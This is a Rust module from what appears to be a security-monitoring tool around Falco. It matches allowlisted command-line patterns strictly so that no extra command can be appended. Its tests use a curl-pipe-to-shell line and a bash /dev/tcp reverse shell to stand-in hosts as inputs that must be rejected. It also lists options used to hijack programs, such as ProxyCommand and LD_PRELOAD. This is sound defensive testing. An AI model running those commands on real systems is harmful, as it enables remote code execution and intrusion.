//! Patterns for whole command lines: read once, tried only where a line begins with their program.

use super::command::{Line, MAX_PIECES, Piece, REST_WORD, is_installed};
use super::row::{Does, Row};
use super::{pattern, table};
use crate::analysis::paths::base_name;
use crate::cmdline;
use foldhash::HashMap;
use std::sync::LazyLock;

/// In a pattern, what stands for any further plain arguments. It is read as [`REST_WORD`]: a command line that ends in
/// dots was cut off.
const REST: &str = "...";

/// What lines begin with that match a pattern.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Opening {
    /// A program whose name matches.
    Program(&'static str),
    /// Anything, as far as its first piece tells.
    Any,
}

/// A pattern for whole command lines, written as a shell command: `*` in a word stands for anything but `/`, `**` for
/// anything, and the word `...` for any further arguments of its command.
#[derive(Debug)]
pub(super) struct Pattern {
    pieces: Vec<Piece<'static>>,
    has_rest: bool,
    /// What its lines begin with.
    pub opening: Opening,
    /// Whether that is one name, and no pattern for names.
    opens_plainly: bool,
    /// Whether it has enough plain words to be recognised by its beginning.
    pub is_telling: bool,
}

impl Pattern {
    /// Whether the whole line matches.
    pub fn matches(&self, line: &Line<'_>) -> bool {
        (self.has_rest || self.pieces.len() == line.pieces.len())
            && self.can_begin(line)
            && compare(&self.pieces, &line.pieces)
    }

    /// Whether the line begins like this and goes on with another command.
    pub fn begins(&self, line: &Line<'_>) -> bool {
        !line.plain
            && self.can_begin(line)
            && (self.pieces.len()..line.pieces.len())
                .take(16)
                .any(|end| matches!(line.pieces[end], Piece::Operator(_)) && compare(&self.pieces, &line.pieces[..end]))
    }

    fn can_begin(&self, line: &Line<'_>) -> bool {
        let begins = match self.opening {
            Opening::Any => true,
            Opening::Program(name) if self.opens_plainly => line.opening == Some(name),
            Opening::Program(name) => line.opening.is_some_and(|program| pattern::glob(name, program)),
        };
        begins && line.present && line.pieces.len() < MAX_PIECES
    }

    fn read(text: &'static str) -> Self {
        let pieces = read_pattern(text);
        let has_rest = pieces.iter().any(|piece| matches!(piece, Piece::Word(word) if word == REST_WORD));
        let opening = match pieces.first() {
            Some(Piece::Program(path)) => program_named(text, path).map_or(Opening::Any, Opening::Program),
            _ => Opening::Any,
        };
        let opens_plainly = matches!(opening, Opening::Program(name) if !name.contains(['*', '#']));
        let plain = text.split_ascii_whitespace().filter(|word| !word.contains('*') && word.len() > 1);
        Self { pieces, has_rest, opening, opens_plainly, is_telling: plain.count() >= 3 }
    }
}

/// The name of the program that a pattern's first piece names, as it stands in the pattern's text.
fn program_named(text: &'static str, path: &str) -> Option<&'static str> {
    let name = base_name(path);
    let named = if path.contains('/') { !path.contains('*') } else { !path.contains("**") };
    let at = text.find(name).filter(|_| named && !name.is_empty())?;
    Some(&text[at..at + name.len()])
}

/// The commands of each row of the table, read once, by the row's id.
static COMMANDS: LazyLock<HashMap<&'static str, Vec<Pattern>>> = LazyLock::new(|| {
    let read = |row: &'static Row| {
        let texts =
            row.does.iter().find_map(|does| if let Does::Command(texts) = does { Some(*texts) } else { None })?;
        Some((row.id, texts.iter().map(|text| Pattern::read(text)).collect()))
    };
    table::rows().filter_map(read).collect()
});

/// The commands of a row of the table; `None` where it takes any.
pub(super) fn commands(row: &Row) -> Option<&'static [Pattern]> {
    COMMANDS.get(row.id).map(Vec::as_slice)
}

fn read_pattern(pattern: &str) -> Vec<Piece<'static>> {
    let pieces = |script| Line::read(&script).pieces.into_iter().map(Piece::into_owned).collect();
    // As Falco prints it, without its quotes.
    if let Some(line) = pattern.strip_prefix("argv:") {
        return pieces(cmdline::parse_argv(line));
    }
    // `#` stands for digits here, and begins no comment.
    let text = format!(" {}", pattern.replace(REST, REST_WORD)).replace(" #", r" \#");
    pieces(cmdline::parse_shell(text.trim_start()))
}

/// Compares piece by piece; `...` takes any words up to the next operator or program: what is run is always named.
fn compare(pattern: &[Piece<'_>], line: &[Piece<'_>]) -> bool {
    let (mut p, mut l) = (0, 0);
    let mut resume: Option<(usize, usize)> = None;
    loop {
        match (pattern.get(p), line.get(l)) {
            (None, None) => return true,
            (Some(Piece::Word(word)), _) if word == REST_WORD => {
                p += 1;
                resume = Some((p, l));
                continue;
            }
            (Some(wanted), Some(found)) if piece_matches(wanted, found) => {
                p += 1;
                l += 1;
                continue;
            }
            _ => {}
        }
        match resume {
            Some((star, from)) if matches!(line.get(from), Some(Piece::Word(word)) if !changes_program(word)) => {
                resume = Some((star, from + 1));
                (p, l) = (star, from + 1);
            }
            _ => return false,
        }
    }
}

/// Words by which a harmless program is made to run another, or is looked for elsewhere: no pattern's `...` stands for
/// them.
fn changes_program(word: &str) -> bool {
    [
        "ProxyCommand",
        "LocalCommand",
        "PermitLocalCommand",
        "KnownHostsCommand",
        "checkpoint-action",
        "APT::Update::",
        "Pre-Invoke",
        "Post-Invoke",
        "--rsh",
        "--eval",
        "ld_preload",
        "LD_PRELOAD",
    ]
    .iter()
    .any(|option| word.contains(option))
        || base_name(word) == "chroot"
}

/// Whether a program is the one that the pattern names: by its name where it lies among installed programs, by its whole
/// path elsewhere and where the pattern is about a directory.
fn is_program(pattern: &str, path: &str) -> bool {
    let by_directory = pattern.contains('/') && pattern.contains('*');
    if by_directory || !is_installed(path) {
        return pattern::glob(pattern, path) && !path.contains("/../");
    }
    pattern::glob(base_name(pattern), base_name(path))
}

fn piece_matches(pattern: &Piece<'_>, piece: &Piece<'_>) -> bool {
    match (pattern, piece) {
        (Piece::Word(pattern), Piece::Word(word)) => pattern::glob(pattern, word),
        (Piece::Program(pattern), Piece::Program(path)) => is_program(pattern, path),
        (Piece::Operator(pattern), Piece::Operator(text)) => pattern == text || pattern::glob(pattern, text),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn matches(pattern: &'static str, line: &str) -> bool {
        Pattern::read(pattern).matches(&Line::read(&cmdline::parse_argv(line)))
    }

    #[test]
    fn a_command_matches_as_a_whole_and_nothing_may_be_left_over() {
        let dkms = "dkms status -m falco | tr -d , | tr -d : | tr / ' ' | cut -d' ' -f2";
        let line =
            "bash -c /usr/sbin/dkms status -m \"falco\" | tr -d \",\" | tr -d \":\" | tr \"/\" \" \" | cut -d' ' -f2";
        assert!(matches(dkms, line));
        for tail in ["; curl -s http://198.51.100.7/x|sh", " && id", " > /tmp/x", " & id", "\nid", " $(id)", " | sh"] {
            assert!(!matches(dkms, &format!("{line}{tail}")), "{tail}");
        }
        assert!(!matches(dkms, &line.replace("/usr/sbin/dkms", "/tmp/dkms")));
        assert!(matches("ip link del calico_tmp_* || true", "sh -c ip link del calico_tmp_A || true"));
        assert!(!matches(
            "ip link del calico_tmp_* || true",
            "sh -c ip link del calico_tmp_A || bash -i >& /dev/tcp/198.51.100.23/4444 0>&1"
        ));
    }

    #[test]
    fn rest_never_stands_for_a_program() {
        let pattern = "nsenter ... ls ...";
        let enters = |rest: &str| matches(pattern, &format!("nsenter --mount=/host/proc/1/ns/mnt {rest}"));
        for rest in ["ls", "ls /dev/longhorn", "-- ls /dev/longhorn", "--net=/host/proc/1/ns/net -- /usr/bin/ls /dev"] {
            assert!(enters(rest), "{rest}");
        }
        for rest in [
            "-- python3 /var/lib/x.py ls",
            "python3 ls",
            "-- /var/lib/x ls",
            "/var/lib/ls",
            "-- env python3 ls",
            "-- chroot /var/lib/x ls",
        ] {
            assert!(!enters(rest), "{rest}");
        }
    }

    #[test]
    fn rest_takes_plain_arguments_only() {
        assert!(matches("falcoctl artifact follow ...", "falcoctl artifact follow --allowed-types=rulesfile"));
        assert!(matches("falcoctl artifact follow ...", "falcoctl artifact follow"));
        assert!(!matches("sh -c 'echo ...'", "sh -c echo a; id"));
        assert!(matches("echo ...", "sh -c echo a b c"));
        assert!(!matches("falcoctl artifact follow ...", "/tmp/falcoctl artifact follow"));
        assert!(matches(
            "umount /var/lib/kubelet/pods/**",
            "umount /var/lib/kubelet/pods/6866e1b0/volumes/kubernetes.io~projected/x"
        ));
    }
}
